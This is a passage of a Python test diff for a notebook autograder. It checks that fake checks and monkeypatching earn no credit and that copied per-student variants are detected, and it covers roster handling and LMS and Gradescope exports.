+    s = limits["results"]["forkbomb"]
+    assert _pts(s)["1.2"] == 1 and _pts(s)["1.5b"] == 1 and _pts(s)["1.4b"] == 1, s["notes"]
+
+
+def test_fake_check_and_monkeypatching_earn_nothing(limits):
+    assert limits["results"]["fakecheck"]["total"] == 0
+    m = limits["results"]["monkey"]
+    assert m["total"] == 0 and _pts(m)["1.2"] == 0
+
+
+def test_a_raising_cell_costs_only_what_it_did_not_define(limits):
+    s = limits["results"]["raises"]
+    assert _pts(s)["1.2"] == 0 and _pts(s)["1.5b"] == 1 and "RuntimeError" in "；".join(s["notes"])
+
+
+# ---- per-student variants, roster and exports (a third, short run) ------------------------------------
+
+SECRET = b"e2e-variant-secret-0123456789abcdef"
+
+
+def _variant_run(folder: Path) -> dict:
+    secret = folder / "course.key"
+    secret.write_bytes(SECRET)
+    hand = folder / "hand"
+    grading.make_variants(SECRET, ["s001", "s002"], ROOT / "exercises", hand, names=["1"], with_solutions=True)
+    subs = folder / "subs"
+    subs.mkdir()
+    shutil.copy(hand / "s001" / "01_roofline.ipynb", subs / "upload_1001.ipynb")   # s001's own work
+    shutil.copy(hand / "s001" / "01_roofline.ipynb", subs / "upload_1002.ipynb")   # s002 copies s001
+    roster = folder / "roster.csv"
+    roster.write_text("student,name,email,file\ns001,张三,a@x.cn,upload_1001.ipynb\n"
+                      "s002,李四,b@x.cn,upload_1002.ipynb\ns003,王五,c@x.cn,\n", encoding="utf-8")
+    out = folder / "book" / "scores.csv"
+    res = grading.grade([subs], out, secret=secret, roster=roster, export=("lms", "gradescope"),
+                        timeout_cell=60, timeout_notebook=150, seed=3, quiet=True)
+    return {"results": {r.student: r.as_dict() for r in res},
+            "lms": (out.parent / "scores_lms.csv").read_bytes().decode("utf-8-sig"),
+            "gradescope": sorted(p.parent.name for p in (out.parent / "gradescope").glob("*/results.json")),
+            "feedback": (out.parent / "feedback" / "s002.md").read_text(encoding="utf-8")}
+
+
+@pytest.fixture(scope="module")
+def variants(tmp_path_factory):
+    return _shared(tmp_path_factory, "grader_variant_run", _variant_run)
+
+
+def test_own_variant_scores_full_marks(variants):
+    s = variants["results"]["s001"]
+    assert s["total"] == MAX[1] and s["variant"] and s["name"] == "张三"
+
+
+def test_a_copied_variant_loses_every_per_student_question(variants):
+    s = variants["results"]["s002"]
+    lost = {i for i, e in s["exercises"].items() if not e["correct"]}
+    own = draw(chapter_params(1), SECRET, "s002", 1)
+    other = draw(chapter_params(1), SECRET, "s001", 1)
+    differing = {e.id for e in for_chapter(1) if e.params and any(own[k] != other[k] for k in e.params)
+                 and e.kind != "choice"}
+    assert differing and differing <= lost
+    assert any("属于学生 s001" in n for n in s["notes"])
+    assert "属于学生 s001" in variants["feedback"]
+
+
+def test_roster_student_without_submission_gets_a_row(variants):
+    s = variants["results"]["s003"]
+    assert s["status"] == "未提交" and s["total"] == 0 and s["max"] == MAX[1]
+
+
+def test_exports_for_an_lms_and_gradescope(variants):
+    rows = list(csv.reader(io.StringIO(variants["lms"])))
+    assert rows[0] == ["SID", "Name", "Email", "Score", "Max Score", "Status"]
+    assert [r[0] for r in rows[1:]] == ["s001", "s002", "s003"] and rows[1][3] == str(MAX[1])
+    assert variants["gradescope"] == ["s001", "s002", "s003"]
